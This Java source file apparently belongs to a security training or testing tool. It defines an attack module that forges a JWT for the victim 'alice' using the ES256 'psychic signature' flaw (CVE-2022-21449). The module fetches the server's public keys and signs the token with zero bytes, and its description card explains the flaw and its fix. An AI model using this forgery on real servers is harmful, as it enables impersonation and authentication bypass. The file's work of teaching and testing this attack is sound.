package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.attack.forge.Ingredients;
import dev.gatehouse.desktop.attack.forge.PsychicSignature;
import dev.gatehouse.desktop.credential.CompactToken;
import dev.gatehouse.desktop.credential.CredentialException;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;
import java.util.Map;

/** Signs with zeros. */
@AutoService(Attack.class)
public final class JwtPsychicSignature extends JwtAttack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "jwt-psychic-signature",
        "Psychic signature",
        AttackGroup.JWT,
        "The attacker writes a token about Alice that names an elliptic-curve key of the server,"
            + " and signs it with zeros.",
        "The name of that key, which is published.",
        "The equation that a signature has to satisfy says 0 = 0 for these numbers, and the library"
            + " forgot to ask first whether they are in range.",
        "accept-zero-ecdsa",
        List.of("CVE-2022-21449", "RFC 7518 §3.4"),
        "Keep the platform up to date: Java 15 to 18 had this mistake. Both numbers of the"
            + " signature must be from 1 to the order of the curve less 1.");
  }

  @Override
  String token(Target target) throws CredentialException, InterruptedException {
    Hop keys = target.send("Fetch the server's public keys.", target.get("/.well-known/jwks.json"));
    CompactToken wanted = ownToken(target).withClaim("sub", Loot.VICTIM);
    return target.makes(
        "Write alg ES256, that key's name and sub alice, and 64 zero bytes for a signature.",
        "forged token",
        new PsychicSignature().forge(wanted, Ingredients.keys(keys.body(), Map.of())).text());
  }
}
